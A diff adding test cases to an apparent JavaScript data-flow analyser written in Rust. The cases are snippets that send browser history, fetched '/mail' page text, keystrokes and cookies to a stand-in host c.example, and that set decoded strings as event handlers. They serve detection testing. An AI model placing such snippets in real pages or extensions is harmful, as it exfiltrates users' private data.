@@ -57,6 +57,19 @@ fn values_are_followed_to_where_they_go() {
         ("by a pattern that renames", "const {value:v='',name}=e.target;i.src=v", "Field>Fetched"),
         ("by a pattern in a pattern", "const {target:{value}}=e;i.src=value", "Field>Fetched"),
         ("by a pattern of a loop", "for(const {name,value} of q.elements)i.src=value", "Field>Fetched"),
+        ("into a handler", "i.setAttribute('onload',atob(t))", "Decoded>Code"),
+        ("into a text of a handler", "i.setAttribute('onclick','go('+atob(t)+')')", ""),
+        (
+            "by what an extension is told",
+            "chrome.history.search({},h=>q.push(...h));fetch('https://c.example/',{body:q})",
+            "Address+BrowserData>Request",
+        ),
+        (
+            "a page of the site",
+            "fetch('/mail').then(r=>r.text()).then(t=>{i.src='//c.example/'+t})",
+            "Address+Remote+Own>Fetched",
+        ),
+        ("by a short table", "onkeydown=e=>navigator.sendBeacon(u,{b:'bold',i:'italic'}[e.key])", ""),
         (
             "by a pattern without a declaration",
             "let cookie;({cookie}=document);i.src=cookie",
